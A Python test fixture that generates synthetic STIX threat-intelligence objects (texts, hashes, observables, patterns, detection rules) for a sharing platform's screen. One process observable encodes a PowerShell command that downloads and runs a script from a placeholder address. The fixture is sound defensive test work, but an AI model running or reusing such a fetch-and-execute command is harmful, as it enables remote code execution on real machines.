# ruff: noqa: RUF001, E501  # texts in many scripts, and lines as long as what tools write
"""Hundreds of legitimate objects, generated: what platforms, hotlines and general tools share, in form; nothing here is real.

Hash values are digests of small numbers, addresses are of the documentation's ranges. ``legitimate()`` gives name -> a whole STIX
object, unsigned; the screen must leave every one alone, and a partner whose agreement has the profile ``stix`` can submit them.
"""

from __future__ import annotations

import base64
import hashlib
import random
import uuid
import zlib
from collections.abc import Iterator
from typing import Any

from tests.factories.stix_objects import CREATED, context, stix_id

Made = Iterator[tuple[str, dict[str, Any]]]

NOISE = b"".join(hashlib.sha512(b"legitimate" + bytes([number])).digest() for number in range(32))
SENTENCES = {
    "Latin": "Wiederholt entstehen neue Konten, die auffällig viele Unbekannte anschreiben; die Prüfung dauert an. ",
    "Vietnamese": "Tài khoản mới được tạo nhiều lần và nhắn tin cho người lạ; việc xem xét đang tiếp tục. ",
    "Polish": "Powtarzające się nowe konta wysyłają wiele wiadomości do nieznajomych; przegląd trwa. ",
    "Turkish": "Tekrar tekrar açılan yeni hesaplar yabancılara çok sayıda ileti gönderiyor; inceleme sürüyor. ",
    "Greek": "Επαναλαμβανόμενη δημιουργία λογαριασμών που στέλνουν πολλά μηνύματα σε αγνώστους. ",
    "Cyrillic": "Повторное создание учётных записей, которые рассылают много сообщений незнакомцам. ",
    "Arabic": "إنشاء متكرر لحسابات جديدة ترسل رسائل كثيرة إلى غرباء، والمراجعة مستمرة. ",
    "Hebrew": "יצירה חוזרת של חשבונות חדשים ששולחים הודעות רבות לזרים, הבדיקה נמשכת. ",
    "Devanagari": "बार-बार नए खाते बनाए जाते हैं जो अजनबियों को बहुत संदेश भेजते हैं। ",
    "Thai": "มีการสร้างบัญชีใหม่ซ้ำๆที่ส่งข้อความจำนวนมากถึงคนแปลกหน้า การตรวจสอบยังดำเนินต่อไป ",
    "Han": "反复出现的新账户向陌生人发送大量消息。审核仍在进行中。",
    "Kana": "新しいアカウントが繰り返し作成され、見知らぬ人に多くのメッセージを送っている。",
    "Hangul": "새 계정이 반복적으로 만들어져 낯선 사람에게 많은 메시지를 보내고 있으며 검토가 진행 중이다. ",
    "Georgian": "ახალი ანგარიშები მეორდება და უცნობებს ბევრ შეტყობინებას უგზავნის. ",
    "Ethiopic": "አዲስ መለያዎች በተደጋጋሚ ይፈጠራሉ እና ለማያውቋቸው ሰዎች ብዙ መልዕክቶችን ይልካሉ። ",
}
WORDS = (
    "account",
    "contact",
    "session",
    "stream",
    "invite",
    "channel",
    "velocity",
    "report",
    "cluster",
    "review",
    "region",
    "launder",
)


def digest(name: str, number: int = 0) -> str:
    return hashlib.new(name, f"legitimate {number}".encode()).hexdigest()


def b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def b64url(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def onion(number: int) -> str:
    return base64.b32encode(hashlib.sha256(bytes([number])).digest() + b"\1\2\3").decode().lower()


def _object(kind: str, **stated: Any) -> dict[str, Any]:
    return {"type": kind, "spec_version": "2.1", "id": stix_id(kind), "created": CREATED, "modified": CREATED, **stated}


def _observable(kind: str, **stated: Any) -> dict[str, Any]:
    return {"type": kind, "spec_version": "2.1", "id": f"{kind}--{uuid.uuid4()}", **stated}


def _note(content: str, **stated: Any) -> dict[str, Any]:
    return _object("note", content=content, object_refs=[stix_id("indicator")], **stated)


def _indicator(pattern: str, kind: str = "stix", **stated: Any) -> dict[str, Any]:
    return _object("indicator", pattern=pattern, pattern_type=kind, valid_from=CREATED, extensions=context(), **stated)


def legitimate() -> dict[str, dict[str, Any]]:
    """Give all of them; ids are random."""
    return {
        name: value for make in (_texts, _tokens, _observables, _hashes, _patterns, _rules, _of_tools) for name, value in make()
    }


def _texts() -> Made:
    for script, sentence in SENTENCES.items():
        yield f"a short text, {script}", _note(sentence)
        yield f"a long text, {script}", _note(sentence * 150)
        yield (
            f"names and labels, {script}",
            _object("campaign", name=sentence[:60], aliases=[sentence[:20]], labels=[sentence[:30]]),
        )
    yield "all scripts in one text", _note(" ".join(SENTENCES.values()) * 5)
    rng = random.Random(1)
    for number in range(30):
        words = " ".join(rng.choices(WORDS, k=120))
        text = f"{words.capitalize()} (case {number:04}-2026, 2026-01-{number % 28 + 1:02}T10:00:00Z, {number * 37} accounts)."
        yield f"an ordinary text, {number}", _note(text, abstract=words[:60])
    for name, text in TEXTS.items():
        yield f"a text with {name}", _note(text)


TEXTS = {
    "CVE numbers": "CVE-2026-12345, CVE-2021-44228 (CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H 10.0), CWE-502, CPE cpe:2.3:a:x:y:1.2.3:*:*:*:*:*:*:*",
    "a list of UUIDs": "\n".join(str(uuid.uuid5(uuid.NAMESPACE_DNS, str(number))) for number in range(60)),
    "a list of addresses": ", ".join(f"192.0.2.{number}, 2001:db8:0:{number:x}::{number * 7:x}" for number in range(60)),
    "hash values": "\n".join(digest("sha256", number) for number in range(40)),
    "MD5 and SHA-1 values": " ".join(digest(name, number) for number in range(20) for name in ("md5", "sha1")),
    "a SHA-512 value": f"sha512: {digest('sha512')}",
    "fingerprints": " ".join(
        ":".join(digest("sha1", number)[at : at + 2] for at in range(0, 40, 2)).upper() for number in range(3)
    ),
    "onion addresses": " ".join(f"http://{onion(number)}.onion/" for number in range(4)),
    "Bitcoin addresses": "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq 1BoatSLRHtKNngkdXEeobR76b53LETtpyT 3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy",
    "Ethereum addresses": " ".join("0x" + digest("sha1", number) for number in range(5)),
    "a Monero address": "48"
    + ("edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD")[:93],
    "registry keys": r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\{0D9B8F6E-3F0C-4C7E-9A55-51B2A1F6F0AA} "
    * 8,
    "command lines": r"powershell.exe -NoProfile -Command \"Get-ChildItem 'C:\Program Files\X' | Where-Object { $_.Length -gt 10KB }\" "
    * 5,
    "paths": "/usr/lib/x86_64-linux-gnu/libexample.so.6.0.1 C:\\Users\\Public\\Documents\\a_b-c.d\\ \\\\server\\share$\\x " * 10,
    "links with tokens": " ".join(
        f"https://share.example.org/v/{b64url(NOISE[at : at + 90])}?x=1&y=2" for at in range(0, 400, 100)
    ),
    "percent-encoded words": "https://example.org/" + "%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82" * 20,
    "statistics": "\n".join(
        f"2026-01-{day:02}: {day * 31} reports, {day * 7 % 13} % reviewed, median 00:{day:02}:15" for day in range(1, 29)
    ),
    "prices": "USD 1,234,567.00; EUR 99.90; 1 000 000 IDR; 0.00012345 BTC; $5 - $20. " * 20,
    "coordinates": "48.8566, 2.3522; -33.8688, 151.2093; 50°27'N 30°31'E. " * 20,
    "user agents": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0 " * 12,
    "log lines": '192.0.2.17 - - [02/Jan/2026:10:15:00 +0000] "GET /rooms/0117?a=1 HTTP/1.1" 404 1234 "-" "-"\n' * 20,
    "headers": 'X-Request-Id: 5f0c1d0e9b5a4c0ea0a4b8f2a7f3c6d1\nETag: "33a64df551425fcc55e4d42a148795d9f25f89d4"\nVary: *\n',
    "JSON": '{"rule": {"if": "joins > 5", "then": ["review", "limit"]}, "window": "PT10M", "ids": [1, 22, 333]}' * 4,
    "YAML and code": "def f(x):\n    return [y['a_b'] for y in x if y.get('c') >= 0x1F]\n# TODO(a): see RFC 9457, §3.2\n" * 10,
    "Markdown": "| name | place |\n|------|-------|\n" + "| **a** | `b_c` |\n" * 40 + "\n" + "-" * 200,
    "emoji": "🛟🧭🛶 safe 👩‍👩‍👧‍👦 ❤️ " * 40,
    "mathematics": "∀x∈ℝ: x² ≥ 0, α→β, ≤ ≥ ≠ ± µ, ½ ¾, №, ™, °C, 10³ " * 10,
    "typography": "„Zitat“ – «mot» … ‘single’ “double” • bullet — dash\u00a0nbsp soft\u00adhyphen " * 10,
    "the word data": "Collected data: five accounts. The formats of data: image/png, image/jpeg. data:2026-01-02; metadata: none.",
    "signatures named": "Files of this kind begin with FF D8 FF E0 or 89 50 4E 47; archives with PK.",
    "a signature": f"signed: {b64(NOISE[:64])}",
    "a public key": f"key: {b64(NOISE[:91])}",
    "short ids in base64": " ".join(f"id={b64url(NOISE[at : at + 12])}" for at in range(0, 96, 12)),
    "reference numbers": "; ".join(f"ICCAM-{number:07}, NCMEC {number * 7919}, ref. 2026/{number:05}" for number in range(40)),
    "handles": ", ".join(f"@user_{number}.Example" for number in range(60)),
    "dates of many kinds": "2026-01-02; 02.01.2026; 01/02/26; Jan 2, 2026; 2026W01; 20260102T101500Z; 1767348900. " * 10,
    "questions about statistics": "victims_count=12, child_account_default=private, age_assurance=none, age 13-15: 40 %. " * 10,
    "versions": "; ".join(f"app 12.{number}.3-rc.{number} (build 26010{number:02})" for number in range(40)),
    "German compounds": "Jugendmedienschutz-Staatsvertrag, Telekommunikationsüberwachungsverordnung, Kindesmissbrauchsbekämpfungsgesetz. "
    * 10,
    "camel case": "LiveStreamEligibilityPolicy, hostVerificationRequirement, contactRateLimitExceeded, DefaultPrivateAccounts. "
    * 8,
    "capitals": "REPEATED ACCOUNTS CONTACT MANY STRANGERS IN LIVE STREAMS; REVIEW IS GOING ON. " * 20,
    "joiners in Persian": "حساب\u200cهای تازه پیام\u200cهای فراوان می\u200cفرستند و بررسی ادامه دارد. " * 100,
    "joiners in Sinhala": "ශ\u0dca\u200dරී ලංකාවේ ප\u0dca\u200dරධාන ගිණුම්. " * 100,
    "breaks in Thai": "บัญชี\u200bใหม่\u200bส่ง\u200bข้อความ\u200bมาก " * 100,
    "soft hyphens": "Wie\u00adder\u00adholt ent\u00adste\u00adhen neue Kon\u00adten im Dienst. " * 50,
    "marks of direction": "\u200e[02.01.26, 10:15] room: left\n" * 100,
    "isolated names": "\u2068anna\u2069 joined the room\n" * 60,
    "flags and families": "🏳\ufe0f\u200d🌈 👩\u200d👩\u200d👧\u200d👦 3\ufe0f\u20e3 \U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f "
    * 60,
    "a decorated name": "Known as "
    + "".join(letter + "".join(chr(0x300 + at % 112) for at in range(12)) for letter in "annaexample"),
}


def _tokens() -> Made:
    for number in range(8):
        token = b64url(NOISE[number : number + 32])
        yield (
            f"a blinded identifier, {number}",
            _own(
                "blinded-identifier",
                "094266d9-fa77-44a0-a363-13503273ee43",
                identifier_kind="email",
                scheme="group-hmac-1",
                epoch="2026-q4",
                token=token,
            ),
        )
        yield (
            f"a payment handle, {number}",
            _own(
                "payment-handle",
                "c780b34a-dea6-4a39-b2d7-65ef091c4762",
                payment_kind="account",
                scheme="group-hmac-1",
                epoch="2026-q4",
                token=digest("sha256", number),
            ),
        )
        yield (
            f"a token of one's own, {number}",
            _object("campaign", name="x", x_token=token, x_key_id=digest("sha256", number), x_nonce=b64(NOISE[number:16])),
        )
    for number in range(6):
        yield f"a perceptual hash, pdq, {number}", _perceptual("pdq", value=digest("sha256", number), quality=90)
        raw = NOISE[number * 8 : number * 8 + 144]
        for name, value in (("base64", b64(raw)), ("hexadecimal", raw.hex()), ("numbers", ",".join(map(str, raw)))):
            yield f"a perceptual hash, photodna in {name}, {number}", _perceptual("photodna", value=value)
    frames = [
        {"value": digest("sha256", number), "quality": number % 101, "at_milliseconds": number * 1000} for number in range(300)
    ]
    yield "a perceptual hash, vpdq of 300 frames", _perceptual("vpdq", frames=frames)
    for name in ("netclean", "videntifier", "safer"):
        yield f"a perceptual hash, {name}", _perceptual(name, value=b64(NOISE[:48]))


def _own(kind: str, definition: str, **stated: Any) -> dict[str, Any]:
    extensions = {f"extension-definition--{definition}": {"extension_type": "new-sco"}, **context(sensitivity="identifying")}
    return _observable(kind, extensions=extensions, **stated)


def _perceptual(algorithm: str, **stated: Any) -> dict[str, Any]:
    return _own("perceptual-hash", "d31b53d7-fc93-4f36-a40e-cf87ba1e3653", algorithm=algorithm, **stated)


def _observables() -> Made:
    yield "an e-mail address", _observable("email-addr", value="reported@example.org", display_name="reported@example.org")
    yield "an account", _observable("user-account", account_login="reported@example.org", user_id="+15550100199")
    yield "a web address with a token", _observable("url", value=f"https://share.example.org/v/{b64url(NOISE[:200])}")
    yield "a web address in another script", _observable("url", value="https://example.org/" + "%D0%BF%D1%80%D0%B8" * 30)
    for number in range(3):
        yield f"an onion address, {number}", _observable("domain-name", value=f"{onion(number)}.onion")
        yield f"an address of version 6, {number}", _observable("ipv6-addr", value=f"2001:db8:{number}:ff00::42:8329")
    yield (
        "a registry key",
        _observable(
            "windows-registry-key",
            key=r"HKEY_CURRENT_USER\Software\Example\{0D9B8F6E-3F0C-4C7E-9A55-51B2A1F6F0AA}",
            values=[{"name": "Blob", "data": NOISE[:40].hex(), "data_type": "REG_BINARY"}],
        ),
    )
    yield (
        "a certificate",
        _observable(
            "x509-certificate",
            serial_number="36:f7:d4:32:f4:ab:70:ea:d3:ce:98:6e:ea:99:93:49:32:0a:b7:06",
            issuer="C=ZZ, O=Example CA, CN=Example Root, emailAddress=ca@example.org",
            subject_public_key_modulus=":".join(f"{byte:02x}" for byte in NOISE[:256]),
            subject_public_key_exponent=65537,
            hashes={"SHA-256": digest("sha256"), "SHA-1": digest("sha1")},
            x509_v3_extensions={"subject_key_identifier": ":".join(f"{byte:02X}" for byte in NOISE[:20])},
        ),
    )
    yield (
        "a process",
        _observable(
            "process", pid=4711, command_line=f"powershell -enc {b64('Get-ChildItem C:/ | Sort-Object'.encode('utf-16-le'))}"
        ),
    )
    downloads = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1');".encode("utf-16-le")
    for times in (1, 8):
        line = f"powershell.exe -NoProfile -Enc {b64(downloads * times)}"
        yield f"a command in base64, {times}", _observable("process", pid=4711, command_line=line)
    yield (
        "a request",
        _observable(
            "network-traffic",
            protocols=["tcp", "http"],
            dst_ref=f"ipv4-addr--{uuid.uuid4()}",
            extensions={
                "http-request-ext": {
                    "request_method": "get",
                    "request_value": "/rooms/0117?invite=" + b64url(NOISE[:24]),
                    "request_header": {"User-Agent": ["Mozilla/5.0 (X11)"], "Cookie": [f"session={b64url(NOISE[:48])}"]},
                }
            },
        ),
    )
    yield (
        "a message's headers",
        _observable(
            "email-message",
            is_multipart=False,
            subject="Invite for reported@example.org",
            message_id="<20260102101500.0117@mail.example.org>",
            received_lines=[
                "from mail.example.org ([198.51.100.3]) by mx.example.org (8.8/8.7.3) id ABC123; Fri, 2 Jan 2026 10:15:00 +0000"
            ],
            additional_header_fields={"Reply-To": ["other@example.org"], "X-Mailer": ["x 1.0"]},
            body="Join the room tonight.",
        ),
    )
    yield (
        "an artifact of which only is told",
        _observable(
            "artifact", mime_type="application/zip", url="https://example.org/a.zip", hashes={"SHA-256": digest("sha256")}
        ),
    )
    yield (
        "an organisation",
        _object(
            "identity",
            name="Example Hotline (synthetic)",
            identity_class="organization",
            contact_information="desk@example.org, +1 555 010 0199",
        ),
    )


def _hashes() -> Made:
    for number in range(12):
        names = {
            "MD5": "md5",
            "SHA-1": "sha1",
            "SHA-256": "sha256",
            "SHA-512": "sha512",
            "SHA3-256": "sha3_256",
            "SHA3-512": "sha3_512",
        }
        stated = {name: digest(algorithm, number) for name, algorithm in names.items()}
        yield f"a file, {number}", _observable("file", name=f"IMG_2026010{number}_101500.jpg", size=1000 + number, hashes=stated)
    yield (
        "a file of fuzzy hashes",
        _observable(
            "file",
            magic_number_hex="ffd8ffe000104a46",
            hashes={
                "SSDEEP": "96:s4Ud1Lj96tHHlZDrwciQmA+4uy1I0G4HYuL8N3TzS8QsO/wqWXLcMSx:sF1LjEtHHlZDrJzrhuyZvHYm8tKp/RWO",
                "TLSH": "T1" + digest("sha512").upper()[:70],
            },
        ),
    )
    sections = [
        {"name": f".sec{number}", "entropy": 7.1, "hashes": {"SHA-256": digest("sha256", number)}, "size": 4096}
        for number in range(12)
    ]
    yield (
        "a programme's sections",
        _observable(
            "file",
            name="a.exe",
            extensions={
                "windows-pebinary-ext": {"pe_type": "exe", "imphash": digest("md5"), "sections": sections, "machine_hex": "014c"}
            },
        ),
    )
    sections = [
        {"name": f".s{number}", "size": 512, "hashes": {"MD5": digest("md5", number), "SHA-256": digest("sha256", number)}}
        for number in range(250)
    ]
    yield (
        "a programme of 250 sections",
        _observable("file", name="b.exe", extensions={"windows-pebinary-ext": {"pe_type": "exe", "sections": sections}}),
    )
    cited = [
        {
            "source_name": f"source {number}",
            "url": f"https://example.org/r/{number}",
            "hashes": {"SHA-256": digest("sha256", number)},
        }
        for number in range(40)
    ]
    yield "citations with hash values", _object("campaign", name="x", external_references=cited)


def _patterns() -> Made:
    for algorithm, name in {"MD5": "md5", "'SHA-1'": "sha1", "'SHA-256'": "sha256", "'SHA-512'": "sha512"}.items():
        yield f"a pattern of {name}", _indicator(f"[file:hashes.{algorithm} = '{digest(name)}']")
    many = " OR ".join(f"file:hashes.'SHA-256' = '{digest('sha256', number)}'" for number in range(40))
    yield "a pattern of forty hash values", _indicator(f"[{many}]")
    yield "a pattern of a perceptual hash", _indicator(f"[perceptual-hash:value = '{b64(NOISE[:144])}']")
    yield "a pattern of first bytes", _indicator("[file:magic_number_hex = 'ffd8ffe000104a46' AND file:size > 1000]")
    yield (
        "a pattern of tokens",
        _indicator("[" + " OR ".join(f"blinded-identifier:token = '{b64url(NOISE[at : at + 32])}'" for at in range(20)) + "]"),
    )
    yield (
        "a pattern of an address",
        _indicator("[email-addr:value = 'reported@example.org' OR user-account:user_id = '+15550100199']"),
    )
    yield "a pattern of a web address", _indicator(f"[url:value LIKE 'https://invite.example.org/{b64url(NOISE[:30])}%']")
    yield "a pattern of a registry key", _indicator(r"[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Example\\Run']")


def _rules() -> Made:
    for kind, rule in RULES.items():
        yield f"a rule of {kind}", _indicator(rule, kind)


RULES = {
    "sigma": "title: Many rooms\nid: 0d9b8f6e-3f0c-4c7e-9a55-51b2a1f6f0aa\ndetection:\n  a:\n    event|contains: [join, leave]\n  condition: a\n",
    "yara": 'rule a { strings: $h = { FF D8 FF E0 00 10 4A 46 49 46 00 01 } $s = "invite" wide condition: $h at 0 and $s }',
    "snort": 'alert tcp any any -> any 80 (msg:"x"; content:"|FF D8 FF E0|"; pcre:"/room=[A-Za-z0-9_-]{8,}/i"; sid:1000001;)',
    "suricata": 'alert http any any -> any any (msg:"x"; http.uri; content:"/invite/"; classtype:policy-violation; sid:2;)',
    "pcre": r"^(?:https?://)?(?:[A-Za-z0-9-]{1,63}\.)+example\.org/(?<room>[A-Za-z0-9_-]{6,22})(?:[?#][\x20-\x7e]*)?$",
    "osprey-sml": "Rule(when_all=[JoinCount > 5, AccountAgeDays < 2, HasLabel(entity=UserId, label='new')], description='rooms')",
    "spl": 'index=rooms sourcetype="join" | stats count by user | where count > 50 | eval risk=round(count/7,2)',
}


def _of_tools() -> Made:
    yield (
        "a behaviour as ATT&CK has it",
        _object(
            "attack-pattern",
            name="Phishing for Information",
            external_references=[
                {"source_name": "mitre-attack", "external_id": "T1598.003", "url": "https://example.org/techniques/T1598/003"}
            ],
            x_mitre_version="1.6",
            x_mitre_platforms=["PRE", "Office 365", "macOS"],
            x_mitre_data_sources=["Application Log: Application Log Content", "Network Traffic: Network Traffic Flow"],
            x_mitre_is_subtechnique=True,
            x_mitre_attack_spec_version="3.2.0",
            x_mitre_contributors=["Example Contributor, Example Organisation"],
        ),
    )
    yield (
        "an event as MISP has it",
        _object(
            "grouping",
            name="MISP event 4711",
            context="misp-event",
            object_refs=[stix_id("indicator")],
            labels=['misp:threat-level="medium"', "tlp:amber", 'misp:to_ids="True"', "Threat-Report"],
            x_misp_event_id="4711",
            x_misp_uuid="0d9b8f6e-3f0c-4c7e-9a55-51b2a1f6f0aa",
        ),
    )
    yield (
        "an object as MISP has it",
        _object(
            "x-misp-object",
            x_misp_name="email",
            x_misp_meta_category="network",
            x_misp_attributes=[
                {"type": "email-src", "object_relation": "from", "value": "reported@example.org", "uuid": str(uuid.uuid4())},
                {"type": "sha256", "object_relation": "sha256", "value": digest("sha256")},
            ],
        ),
    )
    yield (
        "a report of OpenCTI",
        _object(
            "report",
            name="Weekly",
            published=CREATED,
            object_refs=[stix_id("indicator") for _ in range(200)],
            x_opencti_score=50,
            x_opencti_files=[{"name": "a.pdf", "version": CREATED, "mime_type": "application/pdf", "no_trigger_import": True}],
            x_opencti_workflow_id=str(uuid.uuid4()),
        ),
    )
    for number in range(8):
        name = WORDS[number]
        table = {f"day_{day:02}": day * number % 31 for day in range(30)}
        yield (
            f"statistics, {name}",
            _object(
                "campaign",
                name=f"Many {name}s",
                x_victims_count=number,
                x_child_age_range="13-15",
                x_age_assurance="estimation",
                x_counts_by_day=table,
                x_hours=[hour * number % 24 for hour in range(24)],
                x_checksum=zlib.crc32(bytes([number])),
            ),
        )
